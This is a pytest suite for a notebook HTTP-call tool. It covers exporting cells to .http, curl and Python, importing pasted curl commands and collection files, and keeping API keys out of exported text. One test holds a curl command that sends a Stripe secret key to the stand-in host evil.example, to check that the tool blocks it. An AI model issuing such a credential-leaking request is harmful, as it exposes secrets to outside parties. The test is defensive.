"""Cells for other tools and back: what leaves names its secrets, what comes holds none, and both mean the same."""

from __future__ import annotations

from pathlib import Path
from types import SimpleNamespace
from typing import TYPE_CHECKING, Any

import pytest
from IPython.core.interactiveshell import InteractiveShell

from flarex_nb import client as client_module
from flarex_nb.catalog.profile import Service
from flarex_nb.client import Client
from flarex_nb.clock import VirtualClock
from flarex_nb.errors import CellSyntaxError, FlarexError, UsageError
from flarex_nb.notebook import commands_away, commands_call, commands_home, complete
from flarex_nb.notebook.homes import home_named
from flarex_nb.notebook.journal import Memory
from flarex_nb.settings import Settings
from flarex_nb.text.away import abroad, at_home, can_leave
from flarex_nb.text.grammar import parse
from scripted import KEY, ScriptedWire, header_of, reply

if TYPE_CHECKING:
    from collections.abc import Iterator

LONG_KEY = "sk_" + "live_" + "9fQ2xT7vLk3ZbN8sWm4RcY6d"

CHECKOUT = """# @name checkout
# @note creates a live Checkout Session
POST /v1/checkout/sessions
Idempotency-Key: {{$uuid}}

mode=payment
&success_url={{app_url}}/ok
&line_items[0][price]={{price_id}}
&line_items[0][quantity]=1
"""


@pytest.fixture
def shell() -> Iterator[InteractiveShell]:
    InteractiveShell.clear_instance()
    yield InteractiveShell.instance()
    InteractiveShell.clear_instance()


@pytest.fixture
def here(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, shell: InteractiveShell) -> Any:
    clock = VirtualClock()
    wire = ScriptedWire(clock, [reply(200, {"id": "x_1"})])
    made = Client(
        Settings(), clock=clock, wire=wire, environ={"STRIPE_SECRET_KEY": KEY, "CRM_API_KEY": KEY}, folder=tmp_path
    )
    made.services.register(
        Service(
            name="crm",
            base_url="https://crm.example/api",
            auth={"kind": "header", "name": "X-Key", "secret": "CRM_API_KEY"},
        )
    )
    made.services.register(
        Service(
            name="maps",
            base_url="https://maps.example",
            auth={"kind": "query", "name": "key", "secret": "MAPS_API_KEY"},
        )
    )
    made.services.register(
        Service(
            name="old",
            base_url="https://old.example",
            auth={"kind": "basic", "username": "me", "secret": "OLD_PASSWORD"},
        )
    )
    monkeypatch.setitem(client_module._process.__dict__, "client", made)
    monkeypatch.setattr(commands_call, "is_batch", lambda _shell: True)
    monkeypatch.chdir(tmp_path)
    memory = Memory()
    return SimpleNamespace(
        client=made,
        wire=wire,
        memory=memory,
        shell=shell,
        folder=tmp_path,
        run=lambda line, cell: commands_call.call(shell, memory, f"{line} --yes --quiet", cell),
        export=lambda line: commands_away.export(shell, memory, line),
        curl=lambda line="": commands_away.curl(shell, memory, line),
        import_=lambda line, pasted=None: commands_home.import_(shell, line, pasted),
    )


def test_a_cell_leaves_as_http_with_only_what_the_service_implied(here: Any) -> None:
    here.shell.user_ns.update(app_url="https://app.example", price_id="price_1")
    here.run("stripe", CHECKOUT)

    here.export("checkout.http")

    assert (here.folder / "checkout.http").read_text() == (
        "@app_url = https://app.example\n@price_id = price_1\n### checkout\n# @name checkout\n# @note creates a live Checkout Session\n"
        "POST https://api.stripe.com/v1/checkout/sessions\nAuthorization: Bearer {{$dotenv STRIPE_SECRET_KEY}}\n"
        "Stripe-Version: 2025-10-29.clover\nContent-Type: application/x-www-form-urlencoded\nIdempotency-Key: {{$guid}}\n\n"
        "mode=payment\n&success_url={{app_url}}/ok\n&line_items[0][price]={{price_id}}\n&line_items[0][quantity]=1\n"
    )


def test_what_left_comes_home_as_the_same_cell(here: Any, capsys: Any) -> None:
    here.shell.user_ns.update(app_url="https://app.example", price_id="price_1")
    here.run("stripe", CHECKOUT)
    here.export("checkout.http")
    capsys.readouterr()

    here.import_("checkout.http")

    first, _, body = capsys.readouterr().out.partition("\n")
    assert first == "%%flarex_call stripe"
    assert parse(body).requests[0].body == parse(CHECKOUT).requests[0].body
    assert body == f"@app_url = https://app.example\n@price_id = price_1\n{CHECKOUT}"


@pytest.mark.parametrize("service", ["stripe", "crm", "maps", "old"])
@pytest.mark.parametrize(
    "cell",
    [
        "GET /v1/x\n    ?limit=5\n    &q={{ name }}\n",
        "GET /v1/x?limit=5\nX-A: {{$secret OTHER_TOKEN}}\n",
        "# @attempts 2\n# @assert status == 200\nPOST /v1/x\n\na=1\n&b={{name}}\n",
        "POST /v1/x\nContent-Type: text/plain\n\nwords {{name}}\n",
        "POST /v1/x\n\n< ./body.json\n",
        "GET /v1/{{first.response.body.$.id}}\n",
    ],
)
def test_there_and_back_is_the_same_request(here: Any, service: str, cell: str) -> None:
    [request] = parse(cell).requests
    home = home_named(service)

    assert can_leave(request, home)
    assert at_home(abroad(request, home), home) == request


def test_the_exported_file_is_the_same_request_to_the_server(here: Any, capsys: Any) -> None:
    here.shell.user_ns.update(app_url="https://app.example", price_id="price_1")
    here.run("stripe", CHECKOUT)
    here.export("checkout.http")
    text = (here.folder / "checkout.http").read_text()

    here.run("", text)

    before, after = here.wire.seen
    assert (before.method, before.url, before.content) == (after.method, after.url, after.content)
    assert header_of(after, "Authorization") == header_of(before, "Authorization") == f"Bearer {KEY}"


def test_no_value_of_a_secret_or_a_key_in_a_variable_leaves(here: Any) -> None:
    here.shell.user_ns.update(name="Ada", api_token=LONG_KEY)
    here.run("crm", "POST /notes\nX-Own: {{name}}\n\na=1")
    here.memory.cells.append(("crm", "POST /notes\nX-Own: {{api_token}}\n\na=1"))

    for form in ("all.http", "all.sh", "all.py"):
        here.export(f"{form} all")

    for path in here.folder.iterdir():
        text = path.read_text()
        assert KEY not in text
        assert "CRM_API_KEY" in text
    assert LONG_KEY not in (here.folder / "all.http").read_text()


def test_a_json_body_for_a_service_of_forms_leaves_as_the_form_it_is_sent_as(here: Any, capsys: Any) -> None:
    here.run("stripe", 'POST /v1/customers\n\n{"email": "a@b.example", "metadata": {"k": 1}}')

    here.export("http")

    text = capsys.readouterr().out
    assert "email=a@b.example\n&metadata[k]=1" in text.replace("%40", "@")
    assert "Authorization: Bearer {{$dotenv STRIPE_SECRET_KEY}}" in text


def test_expressions_other_clients_cannot_read_leave_filled(here: Any, capsys: Any) -> None:
    here.shell.user_ns.update(row={"id": 7})
    here.run("crm", "GET /notes/{{row.id}}")

    here.export("http")

    assert "GET https://crm.example/api/notes/7\n" in capsys.readouterr().out


def test_a_line_call_and_a_result_leave_too(here: Any, capsys: Any) -> None:
    commands_call.call(here.shell, here.memory, "crm GET /notes limit==5 --quiet", None)
    here.shell.user_ns["result"] = here.client.call("crm", "GET /other")

    here.curl()
    here.curl("result")

    text = capsys.readouterr().out
    assert "curl 'https://crm.example/api/notes?limit=5'" in text
    assert "curl https://crm.example/api/other" in text
    assert "'X-Key: '\"$CRM_API_KEY\"" in text


@pytest.mark.parametrize("line", ["", "checkout", "checkout.docx", "../out.http", "/tmp/out.http", "curl nothing"])
def test_an_export_that_cannot_be_is_refused_with_the_next_step(here: Any, line: str) -> None:
    here.run("crm", "GET /notes")

    with pytest.raises(UsageError) as caught:
        here.export(line)

    assert caught.value.hint
    assert list(here.folder.iterdir()) == []


def test_an_export_never_replaces_a_file_unasked(here: Any) -> None:
    here.run("crm", "GET /notes")
    (here.folder / "a.http").write_text("mine")

    with pytest.raises(UsageError, match="there already"):
        here.export("a.http")

    assert (here.folder / "a.http").read_text() == "mine"
    here.export("!a.http")
    assert "crm.example" in (here.folder / "a.http").read_text()


def test_nothing_to_export_yet_is_said(here: Any) -> None:
    with pytest.raises(UsageError, match="no cell has called"):
        here.curl()


# Pasted curl in a cell


def test_a_pasted_curl_command_runs_and_its_host_tells_the_service(here: Any) -> None:
    here.run("", 'curl https://api.stripe.com/v1/charges -u "$STRIPE_SECRET_KEY:" -d amount=5 -d currency=usd')

    [sent] = here.wire.seen
    assert (sent.method, sent.url, sent.content) == (
        "POST",
        "https://api.stripe.com/v1/charges",
        b"amount=5&currency=usd",
    )
    assert header_of(sent, "Authorization") == f"Bearer {KEY}"


def test_a_pasted_curl_command_runs_with_its_service_named(here: Any) -> None:
    here.run("crm", "curl https://crm.example/api/notes -H 'X-Key: YOUR_API_KEY'")

    assert header_of(here.wire.seen[0], "X-Key") == KEY


@pytest.mark.parametrize(
    ("cell", "place"),
    [
        (f"curl https://api.stripe.com/v1/charges \\\n  -u {LONG_KEY}:", "line 3, column 6"),
        (f"curl https://api.stripe.com/v1/charges -H 'Authorization: Bearer {LONG_KEY}'", "line 2, column 66"),
        ("curl https://api.stripe.com/v1/charges -u me:some-password", "line 2, column 43"),
    ],
)
def test_a_key_in_a_pasted_command_is_refused_at_its_place_and_not_repeated(here: Any, cell: str, place: str) -> None:
    with pytest.raises(CellSyntaxError) as caught:
        here.run("", cell)

    assert caught.value.place == place
    assert LONG_KEY not in caught.value.explain()
    assert "some-password" not in caught.value.explain()
    assert (here.wire.seen, here.memory.cells) == ([], [])


def test_a_host_no_service_has_gets_no_secret_and_is_not_called(here: Any) -> None:
    with pytest.raises(FlarexError, match=r"evil\.example"):
        here.run("", 'curl https://evil.example/v1/charges -H "Authorization: Bearer $STRIPE_SECRET_KEY"')

    assert here.wire.seen == []


# Import


def test_a_pasted_key_becomes_a_name_and_is_never_shown(here: Any, capsys: Any) -> None:
    here.import_("", f"curl https://api.stripe.com/v1/charges -u {LONG_KEY}: -d amount=5")

    text = capsys.readouterr().out
    assert text.startswith("%%flarex_call stripe\nPOST /v1/charges\n\namount=5\n")
    assert LONG_KEY not in text
    assert "STRIPE_SECRET_KEY" in text


def test_several_commands_become_one_cell_for_each_run_of_a_service(here: Any, capsys: Any) -> None:
    (here.folder / "some.sh").write_text(
        "curl https://crm.example/api/a\ncurl https://crm.example/api/b\n\ncurl https://api.stripe.com/v1/charges\n"
    )

    here.import_("some.sh")

    text = capsys.readouterr().out
    assert text == "%%flarex_call crm\nGET /a\n###\nGET /b\n%%flarex_call stripe\nGET /v1/charges\n"


def test_an_unknown_host_is_said(here: Any, capsys: Any) -> None:
    here.import_("", "GET https://new.example/x")

    assert "no service here has new.example" in capsys.readouterr().out


def test_collections_and_hurl_files_are_known_by_their_looks(here: Any, capsys: Any) -> None:
    foreign = Path(__file__).parents[2] / "corpus" / "foreign"

    here.import_(str(foreign / "shop.postman_collection.json"))
    here.import_("", (foreign / "shop.hurl").read_text())
    here.import_("", (foreign / "shop.postman_collection.json").read_text())

    text = capsys.readouterr().out
    assert text.count("{{base_url}}/orders/{{orderId}}") == 2
    assert "@token = {{step_1.response.body.$.access['token']}}" in text


def test_of_many_requests_numbers_choose(here: Any, capsys: Any) -> None:
    (here.folder / "many.http").write_text(
        "\n###\n".join(f"GET https://crm.example/api/n{number}" for number in range(12))
    )

    here.import_("many.http")
    listed = capsys.readouterr().out
    here.import_("many.http 2 12")
    chosen = capsys.readouterr().out

    assert listed.count("GET") == 12
    assert chosen == "%%flarex_call crm\nGET /n1\n###\nGET /n11\n"
    with pytest.raises(UsageError, match="from 1 to 12"):
        here.import_("many.http 13")


@pytest.mark.parametrize("line", ["", "missing.http", ".", "bad.http"])
def test_an_import_that_cannot_be_is_refused(here: Any, line: str) -> None:
    (here.folder / "bad.http").write_bytes(b"\xff\xfe\x00")

    with pytest.raises(FlarexError) as caught:
        here.import_(line)

    assert caught.value.hint


def test_a_body_that_holds_a_separator_stays_whole(here: Any, capsys: Any) -> None:
    here.import_("", "curl https://crm.example/api/a -H 'Content-Type: text/plain' -d '# t\n### part\n'\n")

    text = capsys.readouterr().out
    [request] = parse(text.partition("\n")[2]).requests
    assert request.body.text.rstrip("\n") == "# t\n### part"


def test_words_of_these_magics_are_offered() -> None:
    assert complete.SUBWORDS["flarex_export"] == ("http", "curl", "python")
